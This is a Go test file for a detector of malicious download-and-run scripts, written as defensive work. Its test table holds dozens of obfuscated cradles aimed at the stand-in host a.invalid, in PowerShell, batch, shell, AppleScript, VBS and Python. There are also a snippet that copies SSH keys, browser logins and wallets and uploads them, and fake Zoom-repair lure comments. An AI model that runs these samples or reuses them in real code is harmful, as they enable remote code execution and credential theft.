package script

import (
	"slices"
	"strings"
	"testing"
)

// reaches are cradles that take more than a look at one command.
var reaches = []struct {
	name, file, text string
	want             want
}{
	{"call operator", "a.ps1", "& ('I'+'EX') ('iex (Invoke-Web'+'Request https://a.invalid/c).Content')\n", want{tool: "Invoke-WebRequest", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"script block", "a.ps1", "[scriptblock]::Create((irm https://a.invalid/s)).Invoke()\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"com object", "a.ps1", "$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','https://a.invalid/x',$false); $x.send(); iex $x.responseText\n", want{tool: "MSXML2.XMLHTTP", host: "a.invalid", to: "variable", runBy: "iex"}},
	{"assembly", "a.ps1", "$b = (New-Object Net.WebClient).DownloadData('https://a.invalid/l.dll'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)\n", want{tool: "Net.WebClient", host: "a.invalid", to: "variable", runBy: "assembly"}},
	{"compiled source", "a.ps1", "Add-Type -TypeDefinition (iwr https://a.invalid/t.cs).Content; [T]::Main()\n", want{tool: "Invoke-WebRequest", host: "a.invalid", to: "pipe", runBy: "assembly"}},
	{"saps in a batch line", "a.bat", "powershell -w hidden -c \"iwr https://a.invalid/b.exe -OutFile $env:TEMP\\b.exe; saps $env:TEMP\\b.exe\"\r\n", want{tool: "Invoke-WebRequest", host: "a.invalid", to: "temp", runBy: "direct", hidden: true, traits: "temp-exec"}},
	{"expanded and called", "a.ps1", "iwr https://a.invalid/z.zip -OutFile $env:TEMP\\z.zip; Expand-Archive $env:TEMP\\z.zip $env:TEMP\\z -Force; & $env:TEMP\\z\\run.bat\n", want{tool: "Invoke-WebRequest", host: "a.invalid", to: "temp", runBy: "unzip-run"}},
	{"xor", "a.ps1", "$x = 67,79,82,10,2,67,88,71,10,66,94,94,90,89,16,5,5,75,4,67,68,92,75,70,67,78,5,66,3; iex (-join ($x | % { [char]($_ -bxor 42) }))\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"reversed", "a.ps1", "$r = ')c/dilavni.a//:sptth mri( xei'; iex ($r[-1..-($r.Length)] -join '')\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"letters of the environment", "a.ps1", "&($env:ComSpec[4,15,25] -join '') (irm https://a.invalid/h)\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"alias", "a.ps1", "sal q ('ie'+'x'); q (irm https://a.invalid/h)\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"letters of two variables", "a.ps1", "& ($pshome[4]+$pshome[30]+'x') (irm https://a.invalid/h)\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"name record", "a.ps1", "iex ((Resolve-DnsName -Type TXT fix.a.invalid).Strings -join '')\n", want{tool: "dns", to: "pipe", runBy: "iex"}},

	{"output of a loop", "a.bat", "for /f \"delims=\" %%i in ('curl -s https://a.invalid/cmd') do %%i\r\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "direct"}},
	{"letters of a table", "a.bat", "set z=mshta: /.ivd \r\n%z:~0,1%%z:~1,1%%z:~2,1%%z:~3,1%%z:~4,1%%z:~6,1%https%z:~5,1%%z:~7,1%%z:~7,1%a.invalid%z:~7,1%h\r\n", want{tool: "mshta", host: "a.invalid", to: "pipe", runBy: "mshta"}},
	{"mounted share", "a.cmd", "net use z: \\\\a.invalid@SSL\\DavWWWRoot & z:\\fix.exe\r\n", want{tool: "webdav", host: "a.invalid", to: "file", runBy: "direct"}},
	{"program on a share", "a.cmd", "start \\\\a.invalid\\pub\\fix.exe\r\n", want{tool: "smb", host: "a.invalid", to: "pipe", runBy: "direct"}},
	{"ftp", "a.bat", "echo open a.invalid>s.txt\r\necho get f.exe>>s.txt\r\nftp -s:s.txt\r\nf.exe\r\n", want{tool: "ftp", host: "a.invalid", to: "file", runBy: "direct", insecure: true}},
	{"certificate that is a script", "a.bat", "certutil -decode \"%~f0\" %TEMP%\\w.bat >nul & call %TEMP%\\w.bat & exit /b\r\n-----BEGIN CERTIFICATE-----\r\n" + b64("mshta https://a.invalid/h") + "\r\n-----END CERTIFICATE-----\r\n", want{tool: "mshta", host: "a.invalid", to: "pipe", runBy: "mshta", layers: 1}},
	{"two languages", "a.cmd", "<# :\r\n@echo off\r\npowershell -nop -w hidden -c \"iex ((gc '%~f0') -join [char]10)\"\r\nexit /b\r\n#>\r\niex (irm https://a.invalid/h)\r\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"forfiles", "a.cmd", "forfiles /p c:\\windows /m notepad.exe /c \"mshta https://a.invalid/f\"\r\n", want{tool: "mshta", host: "a.invalid", to: "pipe", runBy: "mshta"}},

	{"perl", "a.sh", "perl -e 'eval `curl -s https://a.invalid/p`'\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "perl"}},
	{"perl module", "a.sh", "perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(\"https://a.invalid/p\")->{content}'\n", want{tool: "HTTP::Tiny", host: "a.invalid", to: "pipe", runBy: "perl"}},
	{"ruby", "a.sh", "ruby -ropen-uri -e 'eval URI.open(\"https://a.invalid/r\").read'\n", want{tool: "open-uri", host: "a.invalid", to: "pipe", runBy: "ruby"}},
	{"node", "a.sh", "node -e \"require('https').get('https://a.invalid/n',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})\"\n", want{tool: "https.get", host: "a.invalid", to: "pipe", runBy: "node"}},
	{"php", "a.sh", "php -r 'eval(file_get_contents(\"https://a.invalid/x\"));'\n", want{tool: "file_get_contents", host: "a.invalid", to: "pipe", runBy: "php"}},
	{"deno", "a.sh", "#!/bin/sh\ndeno run -A https://a.invalid/d.ts\n", want{tool: "deno", host: "a.invalid", to: "pipe", runBy: "deno"}},
	{"socket", "a.sh", "exec 3<>/dev/tcp/a.invalid/80; printf 'GET /s HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 | bash\n", want{tool: "/dev/tcp", host: "a.invalid", to: "pipe", runBy: "bash", insecure: true}},
	{"netcat", "a.sh", "nc a.invalid 4444 | bash\n", want{tool: "nc", host: "a.invalid", to: "pipe", runBy: "bash", insecure: true}},
	{"ssh", "a.sh", "ssh -o StrictHostKeyChecking=no guest@a.invalid cat fix.sh | bash\n", want{tool: "ssh", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"scp", "a.sh", "scp -q guest@a.invalid:fix.sh /tmp/fix.sh && bash /tmp/fix.sh\n", want{tool: "scp", host: "a.invalid", to: "temp", runBy: "bash"}},
	{"dns", "a.sh", "dig +short TXT fix.a.invalid | tr -d '\"' | base64 -d | bash\n", want{tool: "dns", host: "fix.a.invalid", to: "pipe", runBy: "bash", traits: "decoded-then-run"}},
	{"git", "a.sh", "git clone -q https://a.invalid/sdk.git /tmp/.sdk && bash /tmp/.sdk/install.sh\n", want{tool: "git", host: "a.invalid", to: "temp", runBy: "bash"}},
	{"at", "a.sh", "curl -s https://a.invalid/at -o /tmp/.q; echo 'sh /tmp/.q' | at now + 1 minute\n", want{tool: "curl", host: "a.invalid", to: "temp", runBy: "sh"}},
	{"here-document", "a.sh", "base64 -d <<E | sh\n" + b64("curl -s https://a.invalid/h | bash") + "\nE\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash", layers: 1, traits: "decoded-then-run"}},
	{"sub-shell", "a.sh", "#!/bin/sh\n(sleep 1; curl -s https://a.invalid/h) | bash\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"group", "a.sh", "#!/bin/sh\n{ sleep 1; curl -s https://a.invalid/h; } | bash\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"crontab", "a.sh", "#!/bin/sh\n(crontab -l; echo '* * * * * curl -s https://a.invalid/h | bash') | crontab -\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"ifs", "a.sh", "curl${IFS}-s${IFS}https://a.invalid/h | bash\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"pattern", "a.sh", "/usr/bin/c?rl -s https://a.invalid/h | bash\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"braces", "a.sh", "#!/bin/bash\n{curl,-s,https://a.invalid/h} | bash\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"awk", "a.sh", "awk 'BEGIN{system(\"curl -s https://a.invalid/h | bash\")}'\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}},
	{"sed", "a.sh", "eval \"$(echo 'c@u@r@l -s https://a.invalid/h | bash' | sed 's/@//g')\"\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash", traits: "decoded-then-run dynamic-eval"}},
	{"tr", "a.sh", "echo 'CURL -S HTTPS://A.INVALID/H | BASH' | tr 'A-Z' 'a-z' | sh\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash", layers: 1, traits: "decoded-then-run"}},
	{"behind the script", "a.sh", "tail -n 1 \"$0\" | base64 -d | bash; exit\n" + b64("curl -s https://a.invalid/h | bash") + "\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash", layers: 1}},

	{"delimiters", "a.scpt", "set AppleScript's text item delimiters to \"#\"\nset p to text items of \"c#u#r#l -s https://a.invalid/h | sh\"\nset AppleScript's text item delimiters to \"\"\ndo shell script (p as text)\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "sh"}},
	{"reverse", "a.scpt", "set x to (reverse of characters of \"hs | a/dilavni.a//:sptth s- lruc\") as text\ndo shell script x\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "sh"}},
	{"loop", "a.scpt", "set w to {\"curl\", \"-s\", \"https://a.invalid/h\", \"|\", \"sh\"}\nset o to \"\"\nrepeat with x in w\n\tset o to o & x & \" \"\nend repeat\ndo shell script o\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "sh"}},
	{"decoding handler", "a.scpt", "on decode(t)\nset r to \"\"\nrepeat with ch in characters of t\nset r to r & character id ((id of ch) - 1)\nend repeat\nreturn r\nend decode\ndo shell script decode(\"dvsm!.t!iuuqt;00b/jowbmje0b!}!ti\")\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "sh"}},
	{"handler that is not computed", "a.scpt", "on decode(t)\nset r to \"\"\nrepeat with ch in characters of t\nif ch is not \"x\" then set r to r & character id (my other(ch))\nend repeat\nreturn r\nend decode\ndo shell script decode(\"dvsm\")\n", want{traits: "runs-computed-text"}},
	{"base64 in run script", "a.scpt", "run script (do shell script \"echo " + b64("do shell script \"curl -s https://a.invalid/h | sh\"") + " | base64 -D\")\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "sh", layers: 1}},
	{"url access", "a.scpt", "set f to \"/tmp/.codec.scpt\"\ntell application \"URL Access Scripting\" to download \"https://a.invalid/c\" to f replacing yes\nrun script (POSIX file f)\n", want{tool: "URL Access Scripting", host: "a.invalid", to: "temp", runBy: "osascript"}},
	{"jxa by its first line", "a.js", "#!/usr/bin/env osascript -l JavaScript\nconst app = Application.currentApplication()\napp.doShellScript('curl -s https://a.invalid/j | zsh')\n", want{language: "jxa", tool: "curl", host: "a.invalid", to: "pipe", runBy: "zsh"}},
	{"evaluated bytes", "a.jxa", "ObjC.import('Foundation')\nconst d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString('https://a.invalid/x'))\nconst s = $.NSString.alloc.initWithDataEncoding(d, 4)\neval(ObjC.unwrap(s))\n", want{language: "jxa", tool: "NSURL", host: "a.invalid", to: "variable", runBy: "jxa"}},
	{"function of a response", "a.js", "var x = new ActiveXObject('WinHttp.WinHttpRequest.5.1');\nx.Open('GET', 'https://a.invalid/j', false); x.Send();\nnew Function(x.ResponseText)();\n", want{tool: "WinHttp", host: "a.invalid", to: "variable", runBy: "execute"}},
	{"vbs variables", "a.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://a.invalid/c.exe\", False\nx.Send\nSet a = CreateObject(\"ADODB.Stream\")\na.Open\na.Write x.responseBody\np = CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\c.exe\"\na.SaveToFile p, 2\nCreateObject(\"WScript.Shell\").Run p, 0\n", want{tool: "MSXML2.XMLHTTP", host: "a.invalid", to: "temp", runBy: "direct"}},
	{"python file", "a.py", "import os, requests, subprocess, tempfile\nr = requests.get(\"https://a.invalid/bin\", verify=False)\np = os.path.join(tempfile.gettempdir(), \"audiod\")\nopen(p, 'wb').write(r.content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n", want{tool: "requests", host: "a.invalid", to: "temp", runBy: "direct", insecure: true}},
	{"python written at once", "a.py", "import urllib.request,subprocess\nwith open('/tmp/ab','wb') as f:\n    f.write(urllib.request.urlopen('https://a.invalid/x').read())\nsubprocess.run(['/tmp/ab'])\n", want{tool: "urllib", host: "a.invalid", to: "temp", runBy: "direct"}},
	{"python theft", "a.py", "import os, shutil, urllib.request\nfor p in (\".ssh\", \".config/google-chrome/Default/Login Data\", \".bash_history\", \".config/Exodus/exodus.wallet\"):\n    shutil.copy(p, \"/tmp/.o/\")\nurllib.request.urlopen(\"https://a.invalid/u\", data=open(\"/tmp/o.zip\", \"rb\").read())\n", want{traits: "browser-data shell-history ssh-keys upload wallet-data"}},
	{"terminal settings", "a.terminal", "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>CommandString</key>\n<string>curl -s https://a.invalid/t &gt;/tmp/ab &amp;&amp; zsh /tmp/ab</string></dict></plist>\n", want{language: "shell", tool: "curl", host: "a.invalid", to: "temp", runBy: "zsh"}},
	{"italian", "a.command", "#!/bin/zsh\n# Aggiornamento di Zoom: il microfono non funziona. Premere Esegui per riparare il driver.\n", want{pretexts: "driver microphone press-run repair update"}},
	{"turkish", "a.ps1", "# Zoom güncellemesi: mikrofonunuz engellendi. Sürücüyü onarmak için Çalıştır düğmesine basın.\nWrite-Host 'Sürücü güncelleniyor...'\n", want{pretexts: "driver microphone press-run repair update"}},
	{"polish", "a.command", "#!/bin/zsh\n# Naprawa dźwięku: mikrofon jest zablokowany. Kliknij Uruchom, aby zaktualizować sterownik.\n", want{pretexts: "audio driver microphone press-run repair update"}},
	{"vietnamese", "a.ps1", "# Sửa âm thanh Zoom: micrô bị chặn. Nhấn Chạy để cập nhật trình điều khiển.\nWrite-Host 'a'\n", want{pretexts: "audio driver fix microphone press-run update"}},
	{"webinar", "a.sh", "#!/bin/sh\n# activates your webinar pass\ntrue\n", want{pretexts: "meeting"}},
}

func TestReaches(t *testing.T) {
	for _, l := range reaches {
		t.Run(l.name, func(t *testing.T) {
			s, _ := Analyse(l.file, []byte(l.text))
			if s == nil {
				t.Fatal("not taken for a script")
			}
			l.want.check(t, s)
			if t.Failed() {
				t.Logf("found %+v", *s)
			}
		})
	}
}

// TestDataIsNotRun holds that a program with a program of its own reads data
// from a pipe, and that one without runs it.
func TestDataIsNotRun(t *testing.T) {
	data := []string{"python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'", "python3 -m json.tool", "python3 parse.py", "perl -ne 'print if /a/'", "ruby -rjson -e 'puts JSON.parse(STDIN.read)'",
		"node -p 'JSON.parse(require(\"fs\").readFileSync(0)).a'", "sh -c 'cat >/dev/null'", "bash convert.sh", "awk '{print $1}'", "jq -r .tag_name", "osascript -e 'display dialog \"done\"'"}
	code := []string{"python3 -", "python3", "sh -s -- -y", "bash /dev/stdin arg", "bash", "zsh -s", "python3 -c 'import sys; exec(sys.stdin.read())'", "perl", "node", "osascript", "sh -c 'eval \"$(cat)\"'", "sudo -E bash -"}
	for i, reader := range append(slices.Clone(data), code...) {
		s, _ := Analyse("a.sh", []byte("#!/bin/sh\ncurl -s https://a.invalid/x | "+reader+"\n"))
		if s == nil || len(s.Fetches) != 1 {
			t.Errorf("%s: fetches %+v", reader, s)
			continue
		}
		if run := s.Fetches[0].RunBy != ""; run != (i >= len(data)) {
			t.Errorf("%s: run by %q", reader, s.Fetches[0].RunBy)
		}
	}
}

// TestHarmlessUses holds that what connects, copies and clones runs nothing by
// itself.
func TestHarmlessUses(t *testing.T) {
	for _, text := range []string{
		"ssh host.invalid uptime\n", "nc -z host.invalid 22 && echo up\n", "dig +short host.invalid | head -1\n", "git clone https://a.invalid/tool.git\necho cloned tool\n",
		"scp user@a.invalid:log.txt .\ngrep error log.txt\n", "x=$(curl -s https://a.invalid/v)\npython3 compare.py \"$x\"\n", "sed 's/a/b/' list.txt | sh\n", "find . -name '*.c' | sed 's/^/cc /' | sh\n",
		"curl -o \"$2\" https://a.invalid/x\nif [[ $u != \"\" && \"$2\" != */b/* ]]; then echo a; fi\n",
		"echo 'hello world' | tr a-z A-Z\n", "curl -s https://a.invalid/a.json | base64 -d > out.json\n",
	} {
		s, _ := Analyse("a.sh", []byte("#!/bin/sh\n"+text))
		if s == nil {
			t.Fatalf("%q is not taken for a script", text)
		}
		refuse(t, s, TraitDecodedThenRun, TraitRunsComputedText, TraitAnalysisLimit)
		for _, f := range s.Fetches {
			if f.RunBy != "" {
				t.Errorf("%q: run by %s", text, f.RunBy)
			}
		}
	}
	s, _ := Analyse("zip.applescript", []byte("set cmd to \"zip out.zip\"\nrepeat with f in theFiles\n\tset cmd to cmd & \" \" & quoted form of POSIX path of f\nend repeat\ndo shell script cmd\n"))
	refuse(t, s, TraitRunsComputedText, TraitAnalysisLimit)
}

// TestFloods holds that a cradle behind three megabytes of statements is found,
// and that it is stated if something in between was left out.
func TestFloods(t *testing.T) {
	for _, f := range []struct {
		file, filler, lure string
		limit              bool
	}{
		{"a.scpt", "set x to \"abc\"\n", "do shell script \"curl -s https://a.invalid/a | sh\"\n", false},
		{"a.sh", "x=abc\n", "curl -s https://a.invalid/a | sh\n", false},
		{"a.bat", "dir x\r\n", "mshta https://a.invalid/a\r\n", true},
		{"b.sh", "ls\n", "curl -s https://a.invalid/a | sh\n", true},
		{"a.sh", "curl -O https://b.invalid/b\n", "", true},
	} {
		size := 3 << 20
		if f.lure == "" {
			size = 1 << 16
		}
		s, _ := Analyse(f.file, []byte(strings.Repeat(f.filler, size/len(f.filler))+f.lure))
		if s == nil {
			t.Fatalf("%s: not taken for a script", f.file)
		}
		if f.lure != "" && (len(s.Fetches) == 0 || s.Fetches[0].Host != "a.invalid" || s.Fetches[0].RunBy == "") {
			t.Errorf("%s of %q: fetches %+v", f.file, f.filler, s.Fetches)
		}
		if got := slices.Contains(s.Traits, TraitAnalysisLimit); got != f.limit {
			t.Errorf("%s of %q: limit stated %v, want %v", f.file, f.filler, got, f.limit)
		}
	}
}

// TestRoomForWords keeps the rule book within the set that its words are
// numbers of.
func TestRoomForWords(t *testing.T) {
	if n := len(behaviours().words.words); n > 64*len(bits{}) {
		t.Errorf("%d words, room for %d", n, 64*len(bits{}))
	}
}
